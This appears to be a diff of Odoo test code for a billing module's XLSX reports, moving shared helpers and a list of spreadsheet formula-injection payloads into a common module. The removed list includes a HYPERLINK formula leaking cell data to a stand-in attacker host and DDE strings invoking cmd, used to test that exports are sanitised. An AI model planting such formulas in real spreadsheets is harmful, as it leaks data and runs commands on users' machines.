@@ -1,8 +1,6 @@
 import io
-import re
 
 import xlsxwriter
-from openpyxl import load_workbook
 
 from odoo import Command
 from odoo.exceptions import AccessError, UserError
@@ -11,41 +9,7 @@ from odoo.tests import tagged
 from odoo.addons.billing_coordinator.reports.xlsx_safe import SafeXlsxWriter, is_formula_like
 
 from .common import BillingCaseCommon
-
-INJECTIONS = [
-    '=HYPERLINK("http://attacker.example.com/?leak="&A1,"Click for details")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-]
-
-
-def ooxml_text(value):
-    """Cell text as a spreadsheet shows it: OOXML stores control characters as
-    ``_x000D_`` escapes, which openpyxl leaves undecoded (Excel and LibreOffice decode)."""
-    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match[1], 16)), value)
-
-
-def open_xlsx(content):
-    return load_workbook(io.BytesIO(content))
-
-
-class XlsxTestMixin:
-    def _render_xlsx(self, report_ref, docids, data=None, user=None):
-        Report = self.env["ir.actions.report"]
-        if user:
-            Report = Report.with_user(user)
-        content, report_format = Report._render(report_ref, docids, data=data)
-        self.assertEqual(report_format, "xlsx")
-        return open_xlsx(content)
-
-    def _find_row(self, sheet, value, column=1):
-        for row in sheet.iter_rows(min_col=column, max_col=column):
-            if row[0].value == value:
-                return row[0].row
-        self.fail(f"{value!r} not found in column {column} of {sheet.title}")
+from .reports_common import INJECTIONS, PdfTestMixin, XlsxTestMixin, ooxml_text, open_xlsx
 
 
 @tagged("post_install", "-at_install")
@@ -87,7 +51,7 @@ class TestXlsxSafe(BillingCaseCommon):
 
 
 @tagged("post_install", "-at_install")
-class TestCaseRegisterXlsx(XlsxTestMixin, BillingCaseCommon):
+class TestCaseRegisterXlsx(XlsxTestMixin, PdfTestMixin, BillingCaseCommon):
     REPORT = "billing_coordinator.billing_case_register_xlsx_action"
 
     @classmethod
@@ -157,11 +121,7 @@ class TestCaseRegisterXlsx(XlsxTestMixin, BillingCaseCommon):
         self.assertTrue(self._find_row(sheet, self.case.name))  # own case, other team
         with self.assertRaises(AccessError):
             self._render_xlsx(self.REPORT, (self.case | foreign).ids, user=self.coordinator)
-        other = self.setup_other_company(name="Register Co")["company"]
-        foreign_company_case = self.env["billing.case"].with_company(other).create(
-            {"partner_id": self.other_customer.id, "case_type_id": self.type_overcharge.id,
-             "company_id": other.id}
-        )
+        foreign_company_case = self._other_company_case("Register Co")
         with self.assertRaises(AccessError):
             self._render_xlsx(self.REPORT, foreign_company_case.ids, user=self.manager)
 
